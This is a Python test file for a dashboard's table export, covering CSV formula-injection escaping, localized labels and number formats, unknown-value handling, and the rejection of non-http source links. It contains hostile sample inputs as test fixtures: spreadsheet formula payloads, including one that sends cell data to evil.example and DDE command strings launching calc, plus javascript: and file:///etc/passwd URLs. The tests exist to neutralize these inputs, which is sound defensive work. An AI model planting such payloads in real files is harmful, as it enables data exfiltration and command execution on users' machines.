"""dashboard.export.tables: the data page's table (unknown never 0, labels in the reader's language,
approximate and conflicting values flagged), its CSV (safe against formula injection, numbers stay
numbers, UTF-8 with BOM) and the sources' listing (http(s) links only)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from dashboard.export import tables as ce
from tests.fixtures import make_dataset, sample_dataset, site, source

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert ce.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-12.5, -3, 0, 7.25, float("nan"), "-12.5", "-3", "+33", "Béthune", "", "a=b"])
def test_numbers_and_harmless_text_are_unchanged(value):
    result = ce.safe_cell(value)
    if isinstance(value, float) and value != value:
        assert result != result
    else:
        assert result == value
        assert type(result) is type(value)


def _read_back(raw: bytes, lang: str) -> list[list[str]]:
    text = raw.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";" if lang == "fr" else ","))


def test_csv_escapes_formulas_keeps_negative_numbers_and_has_a_bom():
    frame = pd.DataFrame({
        "Nom": HOSTILE + ["Béthune"],
        "Valeur": [-12.5, 3.0, -1e9, 0.8, float("nan"), 26000.0, -7.0],
    })
    raw = ce.to_csv_bytes(frame, "fr")
    assert raw.startswith("\ufeff".encode())  # Excel reads UTF-8 (accents) thanks to the BOM
    rows = _read_back(raw, "fr")
    assert rows[0] == ["Nom", "Valeur"]
    names = [row[0] for row in rows[1:]]
    assert names[:-1] == ["'" + value for value in HOSTILE]
    assert names[-1] == "Béthune"
    values = [row[1] for row in rows[1:]]
    # Numbers stay numbers (decimal comma in French), negative ones without an apostrophe;
    # unknown stays empty, never 0.
    assert values == ["-12,5", "3", "-1000000000", "0,8", "", "26000", "-7"]
    # No cell of the whole file starts with a formula character unless it is a plain number.
    for row in rows[1:]:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert ce._PLAIN_NUMBER.match(cell), cell


def test_csv_in_english_uses_commas_and_decimal_points():
    frame = pd.DataFrame({"Name": ["A, B", "=1"], "Value": [-1.5, 2.0]})
    rows = _read_back(ce.to_csv_bytes(frame, "en"), "en")
    assert rows == [["Name", "Value"], ["A, B", "-1.5"], ["'=1", "2"]]
    # pandas reads it back as numbers.
    back = pd.read_csv(io.BytesIO(ce.to_csv_bytes(frame, "en")), encoding="utf-8-sig")
    assert back["Value"].tolist() == [-1.5, 2.0]


def test_csv_escapes_hostile_headers_too():
    frame = pd.DataFrame({"=cmd": [1]})
    assert _read_back(ce.to_csv_bytes(frame, "fr"), "fr")[0] == ["'=cmd"]


def test_site_table_labels_columns_and_keeps_unknown_unknown():
    data = sample_dataset()
    table = ce.site_table(data, data.sites, "fr")
    frame = table.frame
    assert "Hauts-de-France" not in set(frame["Nom"])  # the region row is not a site of the table
    assert len(frame) == len(data.sites) - 1
    assert {"Nom", "Type", "Statut", "Investissement (€)", "Puissance (MW)", "Mise en service", "Remarques"} <= set(
        frame.columns)
    bethune = frame.set_index("Nom").loc["DC Béthune"]
    assert bethune["Type"] == "Centre de données"
    assert bethune["Statut"] == "Annoncé"
    assert bethune["Département"] == "62 Pas-de-Calais"
    assert bethune["Investissement (€)"] == 1.5e9
    assert bethune["Mise en service"] == "2027–2028"
    assert bethune["Annonce"] == "septembre 2025"
    assert "≈ approximatif\u00a0: Puissance (MW)" in bethune["Remarques"]
    assert "sources en désaccord\u00a0: Investissement (€)" in bethune["Remarques"]
    dunkerque = frame.set_index("Nom").loc["DC Dunkerque"]
    assert pd.isna(dunkerque["Investissement (€)"])  # unknown, not 0
    assert pd.isna(frame.set_index("Nom").loc["Friche Amiens", "Taux d'occupation"])
    assert table.approx.loc[frame["Nom"] == "DC Béthune", "Puissance (MW)"].item() is True


def test_site_table_in_english():
    data = sample_dataset()
    frame = ce.site_table(data, data.sites[data.sites["site_id"] == "rec-dunkerque"], "en").frame
    row = frame.iloc[0]
    assert row["Type"] == "Recycling" and row["Status"] == "Under construction"
    assert row["Commissioning"] == "2026"
    assert row["Notes"] == "≈ approximate: Investment (€)"


def test_csv_of_the_site_table_leaves_unknown_cells_empty():
    data = sample_dataset()
    table = ce.site_table(data, data.sites, "fr")
    rows = _read_back(ce.to_csv_bytes(table.frame, "fr"), "fr")
    header = rows[0]
    name, investment = header.index("Nom"), header.index("Investissement (€)")
    by_name = {row[name]: row for row in rows[1:]}
    assert by_name["DC Béthune"][investment] == "1500000000"
    assert by_name["DC Dunkerque"][investment] == ""


def test_styled_table_shows_reader_formats_approximations_and_unknown():
    data = sample_dataset()
    table = ce.site_table(data, data.sites, "fr")
    html = ce.styled(table).to_html()
    assert "≈\u202f200\u00a0MW" in html  # DC Béthune's approximate power
    assert "1,5\u00a0Md\u00a0€" in html
    assert "inconnu" in html
    assert "septembre 2025" in html  # as-of dates in words
    english = ce.styled(ce.site_table(data, data.sites, "en")).to_html()
    assert "€1.5bn" in english and "unknown" in english


def test_sources_table_keeps_only_http_links_and_formats_dates():
    data = make_dataset(
        sites=[site("a", "data_center")],
        sources=[
            source("ok", "Horizon Actu", "2025-09-16", licence="© Horizon Actu"),
            source("bad", "Evil", "2025-01", url="javascript:alert(1)"),
            source("file", "Local", "2024", url="file:///etc/passwd", reliability="primary"),
        ],
    )
    listing = ce.sources_table(data.sources, "fr")
    assert list(listing.columns) == ["Éditeur", "Titre", "Date", "Lien", "Licence", "Fiabilité", "Identifiant"]
    by_id = listing.set_index("Identifiant")
    assert by_id.loc["ok", "Lien"] == "https://example.org/ok"
    assert pd.isna(by_id.loc["bad", "Lien"])
    assert pd.isna(by_id.loc["file", "Lien"])
    assert by_id.loc["ok", "Date"] == "16 septembre 2025"
    assert by_id.loc["bad", "Date"] == "janvier 2025"
    assert by_id.loc["ok", "Licence"] == "© Horizon Actu"
    assert by_id.loc["file", "Fiabilité"] == "primaire"
    assert list(by_id.index) == ["ok", "bad", "file"]  # newest first


def test_distances_are_rounded_to_a_tenth_of_a_kilometre():
    dataset = sample_dataset()
    sites = dataset.sites.copy()
    sites["nearest_400kv_km"] = 12.345678901234567
    table = ce.site_table(dataset, sites, "fr")
    values = table.frame[ce.column_label("nearest_400kv_km", "fr")].dropna()
    assert len(values) and (values == 12.3).all()
